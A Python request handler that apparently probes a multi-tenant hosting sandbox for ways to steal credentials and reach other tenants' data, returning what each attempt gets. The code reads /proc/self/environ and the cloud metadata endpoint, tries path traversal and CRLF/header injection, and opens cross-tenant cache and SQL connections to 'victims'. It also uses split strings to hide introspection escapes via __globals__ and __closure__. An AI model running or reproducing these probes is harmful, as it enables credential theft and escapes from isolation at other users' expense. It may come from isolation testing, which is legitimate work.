"""Every way to a credential, an address, or what belongs to another guest: what it got, one text for each try."""
import traceback

import fetch
import gateway
import memcache
import mysql
import session


def words(e, depth=0):
    if e is None or depth > 5:
        return ''
    parts = [repr(e), str(e), repr(e.args), ''.join(traceback.format_exception(e))]
    for name in dir(e):
        try:
            parts.append(f'{name}={getattr(e, name)!r}')
        except Exception as refusal:
            parts.append(str(refusal))
    return ' '.join(parts) + words(e.__context__, depth + 1) + words(e.__cause__, depth + 1)


def tried(f):
    try:
        value = f()
        return 'GOT ' + repr(value) + str(getattr(value, '_token', ''))
    except BaseException as e:
        return 'NOT ' + words(e)


def handle(request):
    stolen = request.args['token']
    own = gateway.token('pages')
    conn = mysql.get_conn('guestbook')
    cursor = conn.cursor()
    tries = [lambda: memcache.Client(stolen).get('page'), lambda: service_call('memcache', 'get', stolen, 'page'),
             lambda: mysql.get_conn('victims'), lambda: gateway.token('victims'), lambda: gateway.token(stolen), lambda: mysql.get_conn(stolen),
             lambda: mysql.get_conn(own), lambda: memcache.Client('pages'), lambda: memcache.Client('victim/pages'), lambda: memcache.Client(own + '\0'),
             lambda: memcache.Client(own.upper()), lambda: memcache.Client(own[:-1]), lambda: memcache.Client(''), lambda: memcache.Client('127.0.0.1:11211'),
             lambda: memcache.Client(['cache.internal']), lambda: memcache.Client('unix:/run/memcached.sock'), lambda: memcache.Client(b'x'),
             lambda: fetch.fetch('http://169.254.169.254/latest/meta-data/'), lambda: fetch.fetch('https://api.example.com@127.0.0.1/v1/'),
             lambda: fetch.fetch('file:///proc/self/environ'), lambda: fetch.fetch('https://api.example.com/v1/', headers={'Host': 'localhost'}),
             lambda: fetch.fetch('https://api.example.com/v1/', headers={'X': 'a\r\nHost: b'}), lambda: fetch.fetch('https://api.example.com/v1/', 'CONNECT'),
             lambda: open('/proc/self/environ').read(), lambda: open('../victim/app.toml').read(), lambda: open('../../server.toml').read(),
             lambda: open('app.toml').read(), lambda: service_call('files', 'read', '../victim/a.py'), lambda: service_call('files', 'write', 'x'),
             lambda: service_call('session', 'get', 'x'), lambda: service_call('passport', 'user', 'x'), lambda: service_call('gateway', 'tokens'),
             lambda: service_call('gateway', 'token', 'victims', 'pages'), lambda: service_call('sql', 'open', 'victims'),
             lambda: service_call('sql', 'password', 1), lambda: service_call('sql', 'getClass', 1), lambda: service_call('', ''), lambda: service_call('sql'),
             lambda: service_call(), lambda: service_call(None, None), lambda: service_call(['sql'], 'open', 'guestbook'),
             lambda: service_call('sql\0', 'open', 'guestbook'), lambda: service_call('Sql', 'open', 'guestbook'),
             lambda: service_call('response', 'write', b'x'), lambda: service_call('response', 'start', '200 OK', 'x', 'y'),
             lambda: service_call('response', 'start', '200 OK', [['Set-Cookie', 'a\r\nb: c']], None)]
    kept = [lambda n=n: service_call('sql', 'execute', n, 'SELECT words FROM entry', []) for n in range(-2, 40)]
    others = [lambda: memcache.Client(own).get('page'), lambda: dict(session.current()), lambda: cursor.execute('SELECT words FROM entry').fetchall(),
              lambda: cursor.execute('SELECT * FROM nothere'), lambda: cursor.execute('SELECT CURRENT_USER'), lambda: cursor.execute('SELECT @@hostname'),
              lambda: [conn, cursor, service_call, own and 'token', gateway, mysql], lambda: vars(conn), lambda: vars(memcache.Client(own)).keys(),
              lambda: '{0.__globals__}'.format(service_call),
              lambda: getattr(service_call, '__clo' + 'sure__'), lambda: getattr(request, "__cla" + "ss__"), lambda: getattr(gateway.call, "__glo" + "bals__")]
    return {'refused': [tried(f) for f in tries], 'others': [tried(f) for f in kept + others], 'more': more(own)}


def more(token):
    count = 0
    client = memcache.Client(token)
    try:
        while True:
            client.get('nothing')
            count += 1
    except Exception as e:
        return f'{count < 500} {type(e).__name__}: {e}'
